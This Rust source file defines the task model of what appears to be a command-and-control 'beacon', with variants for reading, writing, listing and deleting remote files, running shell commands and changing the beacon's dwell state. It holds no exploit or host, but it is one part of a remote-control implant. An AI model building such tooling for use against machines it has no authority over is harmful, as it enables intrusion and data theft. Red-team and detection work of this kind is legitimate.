use std::fmt;
use std::path::PathBuf;

use super::{Configuration, TaskId};

/// Wire discriminator of a task (`"type"` field).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum TaskKind {
    Get,
    Put,
    List,
    Delete,
    Execute,
    Configure,
}

impl TaskKind {
    pub const ALL: [TaskKind; 6] = [
        TaskKind::Get,
        TaskKind::Put,
        TaskKind::List,
        TaskKind::Delete,
        TaskKind::Execute,
        TaskKind::Configure,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            TaskKind::Get => "get",
            TaskKind::Put => "put",
            TaskKind::List => "list",
            TaskKind::Delete => "delete",
            TaskKind::Execute => "execute",
            TaskKind::Configure => "configure",
        }
    }

    /// Exact, case-sensitive match against the wire names.
    pub fn parse(s: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|kind| kind.as_str() == s)
    }
}

impl fmt::Display for TaskKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A unit of remote work.
///
/// Closed set: adding a variant forces every `match` (executor, codec) to
/// handle it. Values are immutable once decoded.
#[derive(Debug, Clone, PartialEq)]
pub enum Task {
    /// Read a file.
    Get { id: TaskId, path: PathBuf },

    /// Create or truncate a file with `contents`.
    Put {
        id: TaskId,
        path: PathBuf,
        contents: String,
    },

    /// Walk a directory up to `depth` levels.
    List { id: TaskId, path: PathBuf, depth: u8 },

    /// Remove a file or an empty directory.
    Delete { id: TaskId, path: PathBuf },

    /// Run a shell command and capture stdout.
    Execute { id: TaskId, command: String },

    /// Replace the beacon's dwell / run state.
    Configure {
        id: TaskId,
        configuration: Configuration,
    },
}

impl Task {
    pub fn id(&self) -> TaskId {
        match self {
            Task::Get { id, .. }
            | Task::Put { id, .. }
            | Task::List { id, .. }
            | Task::Delete { id, .. }
            | Task::Execute { id, .. }
            | Task::Configure { id, .. } => *id,
        }
    }

    pub fn kind(&self) -> TaskKind {
        match self {
            Task::Get { .. } => TaskKind::Get,
            Task::Put { .. } => TaskKind::Put,
            Task::List { .. } => TaskKind::List,
            Task::Delete { .. } => TaskKind::Delete,
            Task::Execute { .. } => TaskKind::Execute,
            Task::Configure { .. } => TaskKind::Configure,
        }
    }
}
